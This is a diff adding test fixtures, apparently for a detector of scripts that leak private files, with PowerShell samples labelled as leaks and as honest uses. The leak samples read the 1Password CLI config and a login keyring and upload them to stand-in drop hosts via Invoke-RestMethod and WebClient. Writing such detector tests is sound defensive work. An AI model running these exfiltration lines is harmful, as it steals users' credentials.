@@ -97,6 +97,21 @@ PRIVATE_LEAKS = {
         },
         13,
     ),
+    "powershell Invoke-RestMethod": (
+        {
+            "s.ps1": '$data = Get-Content -Raw (Join-Path $HOME ".config/op/config")\n'
+            'Invoke-RestMethod -Uri "https://op-mirror.example.net/in" -Method Post -Body $data\n'
+        },
+        2,
+    ),
+    "powershell WebClient": (
+        {
+            "s.ps1": '$blob = Get-Content -Raw "$HOME/.local/share/keyrings/login.keyring"\n'
+            "$wc = New-Object System.Net.WebClient\n"
+            '$wc.UploadString("https://kr-drop.example.org/k", $blob)\n'
+        },
+        3,
+    ),
 }
 
 
@@ -168,6 +183,18 @@ PRIVATE_HONEST = {
         "func main() {\n\thome, _ := os.UserHomeDir()\n"
         '\tdata, _ := os.ReadFile(filepath.Join(home, ".zedsync", "state.json"))\n'
         '\thttp.Post("https://api.zedsync.example/v2/state", "application/json", bytes.NewReader(data))\n}\n'
+    },
+    "powershell dotfile to localhost": {
+        "s.ps1": '$data = Get-Content -Raw (Join-Path $HOME ".vimrc")\n'
+        'Invoke-RestMethod -Uri "http://localhost:5000/import" -Method Post -Body $data\n'
+    },
+    "powershell endpoint from the config": {
+        "s.ps1": '$cfg = Get-Content -Raw (Join-Path $HOME ".config/acmecli/config.json") | ConvertFrom-Json\n'
+        'Invoke-RestMethod -Uri ($cfg.endpoint + "/v1/me")\n'
+    },
+    "powershell own tool's service": {
+        "s.ps1": '$st = Get-Content -Raw (Join-Path $HOME ".zedsync/state.json")\n'
+        'Invoke-RestMethod -Uri "https://api.zedsync.example/v2/state" -Method Post -Body $st\n'
     },
 }
 
